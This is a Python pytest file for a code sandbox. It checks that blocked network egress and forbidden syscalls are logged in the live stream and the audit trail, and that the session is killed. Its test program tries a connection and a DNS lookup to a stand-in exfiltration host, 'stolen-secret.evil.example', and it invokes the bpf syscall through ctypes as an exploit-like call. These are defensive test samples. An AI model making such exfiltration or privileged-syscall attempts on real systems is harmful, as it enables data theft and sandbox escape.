"""What a program attempts, on a whole server: in its stream as it happens, and in its trail for good."""

from collections.abc import Iterator

import pytest

from enclave import Enclave
from enclave.contracts.audit import EgressDenied, SyscallForbidden
from enclave.contracts.frames import AuditFrame, StdoutFrame
from enclave.contracts.sessions import KillReason, Phase
from enclave.serve import embedded
from tests.conftest import no_sandbox

pytestmark = [pytest.mark.sandbox, pytest.mark.slow, pytest.mark.skipif(bool(no_sandbox()), reason=no_sandbox())]

TRIES = """
import socket
try: socket.create_connection(('93.184.216.34', 443))
except PermissionError: print('refused', flush=True)
try: socket.getaddrinfo('stolen-secret.evil.example', 80)
except socket.gaierror: pass
input()
"""


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Enclave]:
    with (
        embedded(tmp_path_factory.mktemp("home")) as credential,
        Enclave(credential.base_url, api_key=credential.api_key) as made,
    ):
        yield made


def denied(client: Enclave, session_id: str) -> list[tuple[str, str]]:
    return [(one.target, one.protocol) for one in client.audit(session_id) if isinstance(one, EgressDenied)]


def test_an_attempt_is_in_the_stream_while_the_program_runs_and_in_the_trail_after(client: Enclave) -> None:
    session = client.run(TRIES.replace("input()", "import time; time.sleep(600)"))
    seen: list[str] = []
    for frame in session.stream():
        if isinstance(frame, StdoutFrame):
            seen.append(frame.chunk)
        if isinstance(frame, AuditFrame) and isinstance(frame.event, EgressDenied):
            seen.append(frame.event.target)
        if len(seen) == 3:
            break  # it still runs

    assert sorted(seen) == ["93.184.216.34:443", "refused\n", "stolen-secret.evil.example"]
    assert client.get(session.id).phase is Phase.RUNNING
    session.teardown()
    assert denied(client, session.id) == [("93.184.216.34:443", "tcp"), ("stolen-secret.evil.example", "dns")]


def test_a_call_that_only_an_exploit_makes_kills_the_session_by_name(client: Enclave) -> None:
    session = client.run("import ctypes\nctypes.CDLL(None).syscall(321, 0, 0, 0)", wait=30)
    ended = client.get(session.id)

    assert (ended.phase, ended.kill_reason) == (Phase.KILLED, KillReason.SYSCALL_FORBIDDEN)
    assert [one.call for one in client.audit(session.id) if isinstance(one, SyscallForbidden)] == ["bpf"]
